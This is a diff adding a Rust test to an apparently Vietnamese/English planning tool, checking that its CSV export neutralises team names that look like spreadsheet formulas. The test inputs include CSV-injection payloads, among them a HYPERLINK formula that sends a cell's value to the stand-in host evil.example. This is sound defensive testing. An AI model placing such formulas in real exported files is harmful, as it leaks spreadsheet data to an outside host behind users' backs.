@@ -642,3 +642,65 @@ fn explain_states_differences_of_the_figures_it_prints() {
     }
     assert!(checked >= 30, "only {checked} comparisons read");
 }
+
+/// Trial F09: a team kind's name heads a CSV column ("=1+1 teams" in English); every cell of
+/// the file, headings included, is neutralised as district names are, so that no spreadsheet
+/// runs it as a formula.
+#[test]
+fn team_kind_names_like_formulas_are_neutralised_in_every_csv_cell() {
+    let names = [
+        "=1+1",
+        "+x",
+        "-2+3",
+        "@SUM(A1)",
+        "=HYPERLINK(\"http://evil.example/\"&A2,\"Bấm vào đây\")",
+    ];
+    let blocks: String = names
+        .iter()
+        .map(|n| {
+            format!(
+                "[[team_kind]]\nname = '{n}'\nscope = \"provincial\"\navailable = 1\n\
+                 installs_per_team_day = 40\ncost_per_team_day = 300_000\n\n"
+            )
+        })
+        .collect();
+    let what_if = WhatIf::shipped().replace(
+        "[[team_kind]]\nname = \"volunteer\"",
+        &format!("{blocks}[[team_kind]]\nname = \"volunteer\""),
+    );
+    for lang in ["vi", "en"] {
+        let out = what_if.test().format("csv").lang(lang).run().plan();
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(out.stdout.trim_start_matches('\u{feff}').as_bytes());
+        let mut cells = 0;
+        let mut header = Vec::new();
+        for (i, record) in reader.records().enumerate() {
+            let record = record.unwrap();
+            if i == 0 {
+                header = record.iter().map(str::to_string).collect();
+            }
+            for cell in record.iter() {
+                cells += 1;
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{lang}: a live formula in the CSV: {cell:?}"
+                );
+            }
+        }
+        assert!(cells > 100, "{lang}: {}", out.stdout);
+        // each kind is a column of its own, its name kept behind the apostrophe
+        for name in names {
+            match lang {
+                "en" => {
+                    let heading = format!("'{name} teams");
+                    assert!(header.contains(&heading), "{heading:?} in {header:?}");
+                }
+                _ => assert!(
+                    header.iter().any(|h| h.contains(name)),
+                    "{name:?} in {header:?}"
+                ),
+            }
+        }
+    }
+}
